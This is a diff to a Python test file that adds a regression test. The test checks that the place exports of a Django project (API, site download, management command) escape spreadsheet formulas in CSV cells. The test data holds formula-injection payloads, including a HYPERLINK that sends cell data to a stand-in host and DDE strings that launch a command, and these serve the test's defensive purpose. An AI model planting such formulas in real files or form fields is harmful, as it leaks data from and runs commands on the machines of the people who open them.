@@ -20,6 +20,7 @@ from places.models import Place, Stop
 from places.search.criteria import Search
 from places.search.engine import find
 from places.vocabularies import FormationLabel, Service, Vocabulary
+from tests.places.factories import PlaceFactory
 
 DATA = Path(__file__).resolve().parents[2] / "places" / "data"
 REAL_FILES = sorted((DATA / "real").glob("*.json"))
@@ -342,3 +343,34 @@ def _a_place() -> Place:
     place.set_tags(Vocabulary.SERVICES, [Service.DEMARCHES])
     place.set_tags(Vocabulary.TYPOLOGIE, ["MUNI"])
     return place
+
+
+HOSTILE_CELLS = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
+    "address": "+1+cmd|' /C calc'!A0",
+    "summary": "-2+3+cmd|' /C calc'!A0",
+    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def _rows_of_every_csv(client, tmp_path) -> list[dict]:
+    """The place as written by each of the three CSVs: API `format=csv`, the site's download, the command."""
+    call_command("export_places", "--format", "csv", "--output", str(tmp_path / "lieux.csv"))
+    texts = [
+        (tmp_path / "lieux.csv").read_text(encoding="utf-8"),
+        b"".join(client.get("/exports/lieux.csv").streaming_content).decode(),
+        b"".join(client.get("/api/v1/places/", {"format": "csv"}).streaming_content).decode(),
+    ]
+    return [next(csv.DictReader(io.StringIO(text))) for text in texts]
+
+
+def test_no_csv_opens_a_cell_as_a_spreadsheet_formula(client, tmp_path):
+    PlaceFactory(**HOSTILE_CELLS, phone="+33180050000", longitude=-1.5536)
+    for row in _rows_of_every_csv(client, tmp_path):
+        assert row["nom"] == "'" + HOSTILE_CELLS["name"]
+        assert row["adresse"] == "'" + HOSTILE_CELLS["address"]
+        assert row["presentation_resume"] == "'" + HOSTILE_CELLS["summary"]
+        assert row["presentation_detail"] == "'" + HOSTILE_CELLS["description"]
+        # Plain numbers are data, not formulas: written as they are.
+        assert row["telephone"] == "+33180050000"
+        assert row["longitude"] == "-1.5536"
